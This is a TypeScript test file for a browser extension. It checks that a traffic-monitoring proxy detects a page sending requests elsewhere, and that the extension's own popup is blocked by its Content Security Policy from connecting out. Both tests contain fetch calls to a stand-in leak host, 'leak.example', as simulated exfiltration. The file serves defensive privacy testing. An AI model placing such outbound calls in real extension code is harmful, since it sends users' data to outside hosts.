import { expect, test } from './harness/fixtures';
import { OTHER_HOST } from './harness/start-chromium';
import { TrafficWitness } from './harness/traffic';
import { waitUntil } from './harness/wait-until';

test('the witness hears what a page or a worker sends elsewhere: it can fail', async ({ site, launch }) => {
  const witness = await TrafficWitness.start();
  const browser = await launch({ sitePort: site.port, proxyPort: witness.port });
  const page = await browser.context.newPage();
  await page.goto(`http://${OTHER_HOST}/`);
  await page.evaluate(() => fetch('https://leak.example/page').catch(() => undefined));
  await waitUntil(
    'the leak to be heard',
    async () => witness.leaks,
    (leaks) => leaks.some((url) => url.includes('leak.example')),
  );
  await witness.stop();
});

test('our own pages cannot connect anywhere: the browser refuses by policy', async ({
  browserWithExtension,
}) => {
  const page = await browserWithExtension.openOwnPage('popup.html');
  const refused = await page.evaluate(
    () =>
      new Promise<string>((resolve) => {
        document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) =>
          resolve(`${effectiveDirective} ${blockedURI}`),
        );
        fetch('https://leak.example/popup').catch(() => undefined);
      }),
  );
  expect(refused).toBe('connect-src https://leak.example/popup');
});
